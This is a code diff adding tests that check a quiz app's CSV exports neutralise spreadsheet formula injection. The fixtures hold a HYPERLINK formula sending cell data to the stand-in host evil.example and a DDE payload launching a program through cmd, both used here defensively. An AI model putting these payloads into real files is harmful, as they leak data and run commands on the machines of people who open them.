@@ -259,3 +259,46 @@ def test_answers_csv_gives_local_times(client, lesson, superuser):
 
     assert lines[1][-1] == "2026-03-02 07:30:00"  # Beijing time, the next morning
     assert lines[1][6] == answer.choice.text_en
+
+
+def test_text_an_author_typed_never_runs_as_a_formula_in_a_spreadsheet(client, dataset, superuser):
+    """CSV injection: Excel and WPS read a cell that begins with "=", "+", "-" or "@" as
+    a formula, and a formula can send the sheet's data to another site."""
+    question = dataset.questions.get(slug="q1")
+    question.body_en = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    question.save()
+    question.choices.filter(position=1).update(text_en="@SUM(1+1)*cmd|' /C calc'!A0")
+    sign_in_officer(client, superuser)
+
+    questions = csv_lines(client.get(reverse("admin:quizzes_statistics_csv")))
+    answers = csv_lines(client.get(reverse("admin:quizzes_answers_csv")))
+
+    row = next(line for line in questions if line[2] == "q1")
+    assert row[1] == "'" + question.body_en
+    assert row[11] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row[9] == "-1.000"  # the numbers the export writes stay numbers
+    typed = {cell for line in answers for cell in line if "evil" in cell or "SUM" in cell}
+    assert typed and all(cell.startswith("'") for cell in typed)
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-rm", "'-rm"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("-3", "-3"),
+        ("+5", "+5"),
+        ("-1.000", "-1.000"),
+        ("-3 … +8", "-3 … +8"),
+        ("40%", "40%"),
+        ("Plain text", "Plain text"),
+        (12, 12),
+    ],
+)
+def test_a_cell_that_would_be_a_formula_is_written_as_text(value, written):
+    from quizzes.spreadsheets import cell
+
+    assert cell(value) == written
